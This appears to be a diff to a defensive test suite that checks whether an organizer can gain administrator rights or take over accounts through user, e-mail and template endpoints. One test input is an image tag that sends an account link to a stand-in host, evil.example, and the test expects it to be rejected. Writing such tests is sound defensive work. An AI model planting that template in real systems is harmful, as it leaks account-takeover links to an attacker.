@@ -1,6 +1,5 @@
 /**
- * Every change by which an organizer could become an administrator, or take over the account of one. The security
- * document shows the same table.
+ * Every change by which an organizer could gain administrator rights. docs/security.md has the same table.
  */
 import { afterAll, beforeEach, expect, test } from 'vitest'
 import { aPerson, aSessionCookie, aUser } from '../../tests/kit/builders.ts'
@@ -48,9 +47,17 @@ const newEmail = 'mailbox-of-the-organizer@example.ph'
 
 const attempts: readonly Attempt[] = [
   ['makes themselves admin', '/users/update-details', ({ own }) => ({ userId: own, role: 'admin' })],
-  ['makes another admin', '/users/update-details', ({ attendee }) => ({ userId: attendee, role: 'admin' })],
+  [
+    'makes another user admin',
+    '/users/update-details',
+    ({ attendee }) => ({ userId: attendee, role: 'admin' }),
+  ],
   ['demotes an admin', '/users/update-details', ({ admin }) => ({ userId: admin, role: 'staff' })],
-  ['edits a profile', '/attendees/update-profile', ({ own }) => ({ userId: own, role: 'admin' })],
+  [
+    'makes themselves admin through the profile',
+    '/attendees/update-profile',
+    ({ own }) => ({ userId: own, role: 'admin' }),
+  ],
   [
     'creates an admin',
     '/users',
@@ -66,9 +73,9 @@ const attempts: readonly Attempt[] = [
     '/users/change-password',
     ({ colleague }) => ({ userId: colleague, newPassword }),
   ],
-  ['moves the e-mail of an admin', '/users/update-email', ({ admin }) => ({ userId: admin, newEmail })],
+  ['changes the e-mail of an admin', '/users/update-email', ({ admin }) => ({ userId: admin, newEmail })],
   [
-    'moves the e-mail of an organizer',
+    'changes the e-mail of an organizer',
     '/users/update-email',
     ({ colleague }) => ({ userId: colleague, newEmail }),
   ],
@@ -84,7 +91,7 @@ const attempts: readonly Attempt[] = [
   ],
   ['deletes an admin', '/users/delete', ({ admin }) => ({ userId: admin })],
   [
-    'points the mail at another server',
+    'switches to another mail server',
     '/email/config/update',
     () => ({ baseUrl: 'smtp://mail.example.ph:587', apiKey: 'own-key' }),
   ],
@@ -95,14 +102,14 @@ const attempts: readonly Attempt[] = [
     () => ({ webhookSecret: 'a secret of their own 1' }),
   ],
   [
-    'writes the template of account links',
+    'creates an account link template',
     '/email/templates/create',
     () => aTemplateInput({ templateType: 'account_link', htmlTemplate: '<a href="{{ accountLink }}">x</a>' }),
   ],
   [
-    'puts an account link into another template',
+    'adds an account link to another template',
     '/email/templates/create',
-    () => aTemplateInput({ htmlTemplate: '<img src="https://evil.example/?{{ accountLinkTemplate }}">' }),
+    () => aTemplateInput({ htmlTemplate: '<img src="https://evil.example/?{{ accountLink }}">' }),
     400,
   ],
   ['removes sample data', '/attendees/remove-sample-data', () => ({})],
